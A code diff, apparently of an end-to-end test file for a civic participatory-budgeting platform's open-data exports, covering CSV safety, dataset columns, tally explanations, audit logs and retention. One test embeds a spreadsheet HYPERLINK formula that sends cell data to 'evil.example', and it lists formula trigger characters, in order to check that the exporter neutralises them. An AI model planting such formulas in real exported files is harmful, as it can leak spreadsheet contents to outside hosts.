@@ -1,11 +1,13 @@
+import { Role } from '@quorum/access';
 import { createHash } from 'node:crypto';
 import { createReadStream } from 'node:fs';
 import { get, type IncomingHttpHeaders } from 'node:http';
 import { join } from 'node:path';
 import { gunzipSync } from 'node:zlib';
-import { Role } from '@quorum/identity';
 import {
   authorPseudonym,
+  csvCopySource,
+  DatasetDefinition,
   ExportOpenDataProcessor,
   NIGHTLY_EXPORT_PATTERN,
   NIGHTLY_EXPORT_SCHEDULER,
@@ -16,16 +18,24 @@ import {
   OpenDataRetention,
   validateDataPackage,
 } from '@quorum/open-data';
-import { pabulibToProfile, parsePabulib, tally } from '@quorum/tally';
-import { engineRuleOf } from '@quorum/budgets';
+import { pabulibToProfile, parsePabulib, tally, type EqualSharesTrace, type GreedyTrace } from '@quorum/tally';
+import { engineRuleOf, TallyRule } from '@quorum/budgets';
 import { parse } from 'csv-parse/sync';
 import { Readable } from 'node:stream';
-import { waitFor } from '../utils/budgets';
+import type { PoolClient } from 'pg';
+import { BALLOTS } from '../../libs/open-data/src/datasets/ballots.dataset';
 import { JobQueue, QueueName } from '@quorum/queue';
-import { createUser } from '../utils/factories';
+import { createUser } from '../utils/users.factory';
 import { zipEntries } from '../utils/zip-entries';
-import { OpenDataSeed, OpenDataTestBed, startOpenDataTestBed } from '../utils/open-data.factory';
+import {
+  FORMULA_BODY,
+  FORMULA_TITLE,
+  OpenDataSeed,
+  OpenDataTestBed,
+  startOpenDataTestBed,
+} from '../utils/open-data.factory';
 import { TestApi } from '../utils/test-api';
+import { waitFor } from '../utils/wait-for';
 
 const REQUEST = `mutation($input: RequestExportInput!) { requestExport(input: $input) { id status progress dataset format } }`;
 const JOB = `query($id: ID!) { exportJob(id: $id) { id status progress publishedFiles error finishedAt } }`;
@@ -125,6 +135,48 @@ describe('open data: datasets, formats, catalogue and exports', () => {
     expect(geo.features[0].geometry.coordinates[0]).toBeCloseTo(1.4442, 4); // longitude first (RFC 7946)
   });
 
+  it('neutralises spreadsheet formulas in every CSV, quoting text cells, and keeps JSON as written (issue #14.4)', async () => {
+    const id = seed.visibleProposalIds[2];
+    const csv = await text('proposals.csv');
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Voir"")"`);
+    expect(csv).not.toMatch(/(^|,)"?[=+@-]/m);
+    const row = (await rowsOf('proposals.csv')).find((r) => r.id === id)!;
+    expect(row).toMatchObject({ title: `'${FORMULA_TITLE}`, body: `'${FORMULA_BODY}` });
+    // Every text cell is quoted; numbers are not.
+    expect(csv).toMatch(/,"ACCEPTED","Nous le ferons\.",\d{4}-\d\d-\d\dT[\d:]+Z,2,"[^"]+",/);
+    const json = JSON.parse(await text('proposals.json')).find((p: { id: string }) => p.id === id);
+    expect(json).toMatchObject({ title: FORMULA_TITLE, body: FORMULA_BODY });
+    // Through COPY itself, each trigger, NULL, and a generated receipt that starts with '-' (kept as is).
+    const dataset: DatasetDefinition = {
+      ...BALLOTS,
+      fields: [
+        { ...BALLOTS.fields[0], name: 'receipt' },
+        { name: 'text', type: 'string', description: { fr: '', en: '' } },
+        { name: 'n', type: 'integer', description: { fr: '', en: '' } },
+      ],
+    };
+    const select = `SELECT '-F31eyOy' AS receipt, t AS text, -1 AS n FROM unnest(ARRAY['=1', '+1', '-1', '@1', chr(9) || '1', chr(13) || '1', 'a=1', NULL]) WITH ORDINALITY AS x(t, i) ORDER BY i`;
+    const runner = api.db.createQueryRunner();
+    try {
+      const source = csvCopySource((await runner.connect()) as PoolClient, dataset, select);
+      const chunks: Buffer[] = [];
+      for await (const chunk of source.stream) chunks.push(chunk as Buffer);
+      expect(Buffer.concat(chunks).toString('utf8')).toBe(
+        'receipt,text,n\n' +
+          [`"'=1"`, `"'+1"`, `"'-1"`, `"'@1"`, `"'\t1"`, `"'\r1"`, '"a=1"', '']
+            .map((cell) => `"-F31eyOy",${cell},-1\n`)
+            .join(''),
+      );
+    } finally {
+      await runner.release();
+    }
+
+    const zip = zipEntries(Buffer.from(await (await download('quorum-open-data.zip')).arrayBuffer()));
+    const readme = zip.get('README.md')!.toString('utf8');
+    expect(readme).toContain('formule');
+    expect(readme).toContain('formula');
+  });
+
   it('daily supports, consultations and moderation counts', async () => {
     const daily = await rowsOf('proposal-daily-supports.csv');
     const first = daily.filter((r) => r.proposal_id === seed.visibleProposalIds[0]);
@@ -182,6 +234,58 @@ describe('open data: datasets, formats, catalogue and exports', () => {
     expect(Object.keys(updates[0])).not.toContain('author_id');
   });
 
+  it('tracked winners with their news, and the deliberation in the SCDL columns', async () => {
+    const items = await rowsOf('tracked-items.csv');
+    expect(items.map((r) => r.id).sort()).toEqual([...seed.trackedItemIds].sort());
+    expect(items.find((r) => r.id === seed.trackedItemIds[0])).toMatchObject({
+      source_type: 'BUDGET_PROJECT',
+      budget_id: seed.budgetId,
+      status: 'IN_WORKS',
+      progress_percent: '30',
+      committed_cents: '4000000',
+      spent_cents: '0',
+      department: 'Voirie',
+    });
+    const updates = await rowsOf('tracked-item-updates.csv');
+    // The news starts with '@': neutralised in CSV like every text the platform writes.
+    expect(updates).toEqual([
+      expect.objectContaining({
+        tracked_item_id: seed.trackedItemIds[0],
+        occurred_on: '2026-05-04',
+        body: `'${FORMULA_BODY}`,
+      }),
+    ]);
+    const [deliberation] = await rowsOf('tracked-item-deliberations.csv');
+    expect(Object.keys(deliberation).slice(0, 17)).toEqual([
+      'COLL_NOM',
+      'COLL_SIRET',
+      'DELIB_ID',
+      'DELIB_DATE',
+      'DELIB_MATIERE_CODE',
+      'DELIB_MATIERE_NOM',
+      'DELIB_OBJET',
+      'BUDGET_ANNEE',
+      'BUDGET_NOM',
+      'PREF_ID',
+      'PREF_DATE',
+      'VOTE_EFFECTIF',
+      'VOTE_REEL',
+      'VOTE_POUR',
+      'VOTE_CONTRE',
+      'VOTE_ABSTENTION',
+      'DELIB_URL',
+    ]);
+    expect(deliberation).toMatchObject({
+      COLL_NOM: 'Toulouse',
+      DELIB_ID: 'DEL-2026-031',
+      DELIB_DATE: '2026-03-12',
+      DELIB_MATIERE_CODE: '7.1',
+      VOTE_POUR: '45',
+      DELIB_URL: 'https://www.toulouse.fr/deliberations/2026-03-12-7-1.pdf',
+      tracked_item_id: seed.trackedItemIds[0],
+    });
+  });
+
   it('the budget .pb carries the budget id, hashes to the stored digest and recounts to the published winners with libs/tally', async () => {
     const bytes = Buffer.from(await (await download(`budget-${seed.budgetId}.pb`)).arrayBuffer());
     const [stored] = await api.db.query(
@@ -194,6 +298,50 @@ describe('open data: datasets, formats, catalogue and exports', () => {
     expect(createHash('sha256').update(bytes).digest('hex')).toBe(stored.ballots_digest);
     const rule = engineRuleOf(stored.tally_rule, stored.add1_completion, stored.ballot_type);
     expect(tally(pabulibToProfile(file), rule).winners).toEqual(stored.winners);
+  });
+
+  it('why each project won or lost: the explanation columns and rows are what libs/tally explains recounting the .pb', async () => {
+    const bytes = Buffer.from(await (await download(`budget-${seed.budgetId}.pb`)).arrayBuffer());
+    const [stored] = await api.db.query(
+      `SELECT b.tally_rule, b.add1_completion, b.ballot_type FROM budget_results r JOIN budgets b ON b.id = r.budget_id`,
+    );
+    const profile = pabulibToProfile(parsePabulib(bytes.toString('utf8')));
+    const rule = engineRuleOf(stored.tally_rule, stored.add1_completion, stored.ballot_type);
+    const main = tally(profile, rule, { explain: true }).explanation!;
+    const greedy = tally(profile, engineRuleOf(TallyRule.GREEDY, false, stored.ballot_type), {
+      explain: true,
+    }).explanation!;
+    const [official, comparison] = await rowsOf('budget-results.csv');
+    expect(Number(official.voters_with_funded)).toBe(main.figures.votersWithFunded);
+    expect(Number(official.average_funded)).toBeCloseTo(main.figures.averageFunded, 10);
+    expect(Number(comparison.share_with_funded)).toBeCloseTo(greedy.figures.shareWithFunded, 10);
+    const trace = main.trace as EqualSharesTrace;
+    expect(Number(official.per_voter_budget)).toBe(trace.perVoterBudget);
+    expect(official.add1_increment).toBe(String(trace.add1Increment));
+
+    const rows = await rowsOf('budget-result-projects.csv');
+    const officialRows = rows.filter((r) => r.is_official === 'true');
+    expect(officialRows.map((r) => r.project_id)).toEqual(trace.projects.map((p) => p.id).sort());
+    for (const p of trace.projects) {
+      const row = officialRows.find((r) => r.project_id === p.id)!;
+      expect(row.outcome).toBe(p.outcome);
+      if (p.outcome === 'funded') {
+        expect(Number(row.round)).toBe(p.round);
+        const payments = p.payments.map((l) => `${l.amount}:${l.voters}:${l.paidAll ? 'all' : 'share'}`).join(';');
+        expect(row.payments).toBe(payments);
+      }
+      if (p.outcome === 'unfunded') {
+        expect(Number(row.supporters_held)).toBe(p.supportersHeld);
+        expect(Number(row.effective_support)).toBe(p.effectiveSupport);
+        expect(Number(row.dropped_at_round)).toBe(p.droppedAtRound);
+      }
+    }
+    const greedyRows = rows.filter((r) => r.is_official === 'false');
+    for (const p of (greedy.trace as GreedyTrace).projects) {
+      const row = greedyRows.find((r) => r.project_id === p.id)!;
+      expect(Number(row.greedy_position)).toBe(p.position);
+      if (p.outcome === 'unfunded') expect(row.taken_by).toBe(p.takenBy ?? '');
+    }
   });
 
   it('the data package validates: every CSV matches its Table Schema, every size and SHA-256 matches', async () => {
@@ -248,11 +396,25 @@ describe('open data: datasets, formats, catalogue and exports', () => {
   });
 
   it('each published version has a public audit entry; the catalogue page shows the audit head', async () => {
-    const [{ files }] = await api.db.query(`SELECT count(*)::int AS files FROM open_data_files`);
-    const entries = await api.db.query(
-      `SELECT subject_id, payload FROM audit_entries WHERE action = 'open-data.publish' AND is_public`,
+    // One entry per version published; an entry stays when the retention deletes its version (the log is append-only).
+    const count = (keys: string[]) => keys.reduce((m, k) => m.set(k, (m.get(k) ?? 0) + 1), new Map<string, number>());
+    const versions = count(
+      (await api.db.query(`SELECT file_name, sha256 FROM open_data_files`)).map(
+        (v: { file_name: string; sha256: string }) => `${v.file_name} ${v.sha256}`,
+      ),
     );
-    expect(entries).toHaveLength(files);
+    const entries = count(
+      (
+        await api.db.query(
+          `SELECT subject_id, payload FROM audit_entries WHERE action = 'open-data.publish' AND is_public`,
+        )
+      ).map((e: { subject_id: string; payload: string }) => `${e.subject_id} ${JSON.parse(e.payload).sha256}`),
+    );
+    expect(versions.size).toBeGreaterThan(0);
+    for (const [version, n] of versions)
+      expect([version, Math.min(n, entries.get(version) ?? 0)]).toEqual([version, n]);
+    const published = new Set([...versions.keys()].map((v) => v.split(' ')[0]));
+    for (const entry of entries.keys()) expect(published).toContain(entry.split(' ')[0]);
     const [head] = await api.db.query(`SELECT sequence, hash FROM audit_entries ORDER BY sequence DESC LIMIT 1`);
     const page = await fetch(`${api.url}/open-data`);
     expect(page.headers.get('content-type')).toContain('text/html');
@@ -272,8 +434,8 @@ describe('open data: datasets, formats, catalogue and exports', () => {
       (d: { 'dcat:distribution': unknown[] }) => d['dcat:distribution'],
     );
     const urls = distributions.map((d: { 'dcat:downloadURL': { '@id': string } }) => d['dcat:downloadURL']['@id']);
-    expect(urls).toContain(`${api.config.openData.publicUrl}/open-data/files/budget-${seed.budgetId}.pb`);
-    expect(urls).toContain(`${api.config.openData.publicUrl}/open-data/files/proposals.geojson`);
+    expect(urls).toContain(`${api.config.http.publicUrl}/open-data/files/budget-${seed.budgetId}.pb`);
+    expect(urls).toContain(`${api.config.http.publicUrl}/open-data/files/proposals.geojson`);
     for (const d of distributions) expect(d['dct:format']).toMatch(/^(CSV|JSON|GEOJSON|PB|ZIP)$/);
   });
 
@@ -339,29 +501,37 @@ describe('open data: datasets, formats, catalogue and exports', () => {
       .handle({ reason: 'nightly' }, { updateProgress: async (p: number) => void progress.push(p) });
     // Every dataset in each format, and the one published budget's .pb; unchanged, so nothing new.
     const files = OPEN_DATASETS.reduce((n, d) => n + d.formats.length, 0) + 1;
-    expect(result).toEqual({ files, published: [], purged: 0 });
+    expect(result).toEqual({ files, published: [], purged: 0, withdrawn: 0 });
     expect(progress[progress.length - 1]).toBe(100);
   });
 
   it('keeps older versions for the retention period, then deletes them; the current version always stays', async () => {
-    await api.db.query(`UPDATE proposals SET title = 'Titre modifié' WHERE id = $1`, [seed.visibleProposalIds[0]]);
+    const proposalId = seed.visibleProposalIds[0];
+    const [{ title }] = await api.db.query(`SELECT title FROM proposals WHERE id = $1`, [proposalId]);
+    await api.db.query(`UPDATE proposals SET title = 'Titre modifié' WHERE id = $1`, [proposalId]);
     const exporter = api.app.get(OpenDataExporter);
-    await exporter.run({ dataset: 'proposals', format: 'csv' }, 'test');
-    const versions = await api.db.query(
-      `SELECT sha256 FROM open_data_files WHERE file_name = 'proposals.csv' ORDER BY created_at`,
-    );
-    expect(versions).toHaveLength(2);
-    const old = await download(`proposals.csv?version=${versions[0].sha256}`);
-    expect(await old.text()).not.toContain('Titre modifié');
-    expect(await text('proposals.csv')).toContain('Titre modifié');
+    try {
+      await exporter.run({ dataset: 'proposals', format: 'csv' }, 'test');
+      const versions = await api.db.query(
+        `SELECT sha256 FROM open_data_files WHERE file_name = 'proposals.csv' ORDER BY created_at`,
+      );
+      expect(versions).toHaveLength(2);
+      const old = await download(`proposals.csv?version=${versions[0].sha256}`);
+      expect(await old.text()).not.toContain('Titre modifié');
+      expect(await text('proposals.csv')).toContain('Titre modifié');
 
-    const retention = api.app.get(OpenDataRetention);
-    expect(await retention.purge()).toBe(0); // superseded just now: kept
-    const later = new Date(Date.now() + 31 * 24 * 3600 * 1000);
-    expect(await retention.purge(later)).toBeGreaterThanOrEqual(1);
-    expect((await download(`proposals.csv?version=${versions[0].sha256}`)).status).toBe(404);
-    expect(await text('proposals.csv')).toContain('Titre modifié');
-    await expect(readable(join(dir, 'files', `${versions[0].sha256}.csv`))).resolves.toBe(false);
+      const retention = api.app.get(OpenDataRetention);
+      expect(await retention.purge()).toBe(0); // superseded just now: kept
+      const later = new Date(Date.now() + 31 * 24 * 3600 * 1000);
+      expect(await retention.purge(later)).toBeGreaterThanOrEqual(1);
+      expect((await download(`proposals.csv?version=${versions[0].sha256}`)).status).toBe(404);
+      expect(await text('proposals.csv')).toContain('Titre modifié');
+      await expect(readable(join(dir, 'files', `${versions[0].sha256}.csv`))).resolves.toBe(false);
+    } finally {
+      // The other tests read the published files of the seed as it was: put it back and publish it again.
+      await api.db.query(`UPDATE proposals SET title = $2 WHERE id = $1`, [proposalId, title]);
+      await exporter.run({}, 'test');
+    }
   });
 });
 
